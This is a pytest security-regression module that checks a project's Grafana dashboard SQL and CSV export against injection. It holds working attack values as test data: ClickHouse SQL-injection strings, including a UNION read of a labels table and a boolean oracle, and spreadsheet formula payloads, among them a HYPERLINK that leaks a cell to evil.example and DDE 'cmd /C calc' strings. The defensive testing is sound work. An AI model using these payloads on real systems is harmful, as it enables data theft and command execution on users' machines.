"""Hostile values through both dashboards (issue 25): the committed Grafana dashboard's panel SQL,
interpolated by Grafana's formatters reimplemented exactly (grafana_template.py) and run on chDB,
leaks nothing and reads only what Grafana's ClickHouse user may read; the documents CSV export
of `bloomwatch dashboard` opens in a spreadsheet without running a formula."""

import csv
import io
import json
from datetime import timedelta

import pytest
from dashboard_support import dashboard_server, now_utc, run_python

from dashboards.grafana.build import OUTPUT

EVIL_SOURCE = "x\\') OR 1=1 --"  # stored by any publisher; `\'` ends a ClickHouse string
# a `var-q` link: a yes/no question about another table (is some annotator "alice"?)
ORACLE_Q = "\\' != char(0) AND 0 OR (SELECT any(annotator) FROM labels) = char(97,108,105,99,101)) --"
UNION_Q = (
    "\\') UNION ALL SELECT document_id AS id, labelled_at AS published_at, annotator, 'news', 'world', 'und', "
    "'negative', 1, annotator, annotator, '', '', ifNull(text, '') FROM labels --"
)
FORMULAS = {  # id, source and text of a document made to attack whoever opens the CSV export
    "id": '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text": "=cmd|' /C calc'!A0",
}
SCENARIOS = {
    "reviews_of_all_sources": {"kind": ["review"], "q": ""},
    "oracle_in_q": {"q": ORACLE_Q},
    "union_in_q": {"q": UNION_Q},
    "the_evil_source_chosen": {"source": [EVIL_SOURCE], "q": ""},
}

# In a fresh process: a store with the hostile rows and a label, then every panel of the committed
# dashboard for every scenario, as Grafana would send it; each panel's rows (or its error) and the
# tables its plan reads, under the read-only setting of Grafana's ClickHouse user.
SETUP = """
import json, re
from datetime import datetime, timedelta
import clickhouse_connect
from dashboard_support import insert_alert, insert_copy, populate
from dashboards.queries import fixed_values
from grafana_template import ALL, expand_macros, interpolate
from store.documents import ddl_statements

dsn, end, board, scenarios, formulas, evil_source = sys.argv[1], datetime.fromisoformat(sys.argv[2]), *map(json.loads, sys.argv[3:])
client = clickhouse_connect.get_client(dsn=dsn)
for statement in ddl_statements():
    client.command(statement)
populate(client, 600, end=end, span=timedelta(hours=2))
insert_copy(client, "doc-0", id="evil-source", source=evil_source, kind="news", text="stored by a publisher")
insert_copy(client, "doc-0", **formulas, kind="review")
client.command("INSERT INTO labels (document_id, task, label, text, annotator, labelled_at, enqueued_at, ingested_at) "
               "VALUES ('label-row', 'sentiment', 'negative', 'private label text', 'alice', now64(3), now64(3), now64(3))", settings={"async_insert": 0})
insert_alert(client, alert_id="a-evil", source=evil_source, state="firing", started_at=end - timedelta(minutes=30))
variables = {v["name"]: v for v in board["templating"]["list"]}
sources, langs = client.query("SELECT groupUniqArray(source), groupUniqArray(ifNull(lang, 'und')) FROM documents").result_rows[0]
options = {**{name: list(values) for name, values in fixed_values().items()}, "source": list(sources), "lang": list(langs)}
all_values = {name: v["allValue"] for name, v in variables.items() if v.get("allValue")}
out = {}
for scenario, chosen in scenarios.items():
    values = {**{name: ALL for name in options}, **chosen}
    for panel in board["panels"]:
        sql = expand_macros(interpolate(panel["targets"][0]["rawSql"], values, options, all_values),
                            start=end - timedelta(hours=3), end=end + timedelta(seconds=1), interval_s=60)
        try:
            rows = client.query(sql, settings={"readonly": 2}).named_results()
            plan = "\\n".join(row[0] for row in client.query("EXPLAIN PLAN " + sql).result_rows)
            result = {"rows": [{k: str(v) for k, v in row.items()} for row in rows],
                      "tables": sorted(set(re.findall(r"ReadFromMergeTree \\(default\\.(\\w+)\\)", plan)))}
        except Exception as error:
            result = {"error": str(error)[:500]}
        out[f"{scenario}:{panel['title']}"] = result
reviews = client.command("SELECT count() FROM documents FINAL WHERE kind = 'review' AND published_at >= {s:DateTime64(3, 'UTC')}",
                         parameters={"s": end - timedelta(hours=3)})
print(json.dumps({"panels": out, "reviews": int(reviews)}))
"""


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    root = tmp_path_factory.mktemp("injection")
    dsn, end = f"chdb://{root / 'chdb'}", now_utc() - timedelta(minutes=1)
    args = [json.dumps(x) for x in (json.loads(OUTPUT.read_text()), SCENARIOS, FORMULAS, EVIL_SOURCE)]
    return root, dsn, end, json.loads(run_python(SETUP, dsn, end.isoformat(), *args))


def _panel(store, scenario: str, title: str) -> list[dict]:
    result = store[3]["panels"][f"{scenario}:{title}"]
    assert "error" not in result, result  # a value that changes the SQL's syntax got out of its string
    return result["rows"]


def test_no_variable_value_leaves_its_string_in_any_grafana_panel(store):
    for key, result in store[3]["panels"].items():
        assert "error" not in result, (key, result)
        assert set(result["tables"]) <= {"documents", "alerts"}, key  # what Grafana's ClickHouse user may read


def test_a_stored_source_cannot_widen_a_filter(store):
    rows = _panel(store, "reviews_of_all_sources", "Documents")
    assert rows and {row["kind"] for row in rows} == {"review"}
    totals = _panel(store, "reviews_of_all_sources", "Totals")
    assert int(totals[0]["documents"]) == store[3]["reviews"]
    chosen = _panel(store, "the_evil_source_chosen", "Documents")  # the value arrives whole, as stored
    assert [row["id"] for row in chosen] == ["evil-source"]
    alerts = _panel(store, "the_evil_source_chosen", "Alerts")
    assert [row["alert_id"] for row in alerts] == ["a-evil"]


@pytest.mark.parametrize("scenario", ["oracle_in_q", "union_in_q"])
def test_a_search_link_cannot_read_another_table(store, scenario):
    for title in ("Documents", "Most negative documents"):
        rows = _panel(store, scenario, title)
        assert rows == [], rows  # no document contains the text, and nothing else is read


def test_documents_csv_cells_never_start_a_formula(store):
    root, dsn, end, _ = store
    window = {"from": (end - timedelta(hours=3)).isoformat(), "to": (end + timedelta(seconds=1)).isoformat()}
    with dashboard_server(root, dsn) as url:
        import httpx

        response = httpx.get(f"{url}/api/dashboard/documents.csv", params={**window, "limit": 1000}, timeout=60)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    evil = [row for row in rows if row["id"] == "'" + FORMULAS["id"]]
    assert evil, "the formula document is exported with its id neutralised"
    assert evil[0]["source"] == "'" + FORMULAS["source"] and evil[0]["snippet"] == "'" + FORMULAS["text"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
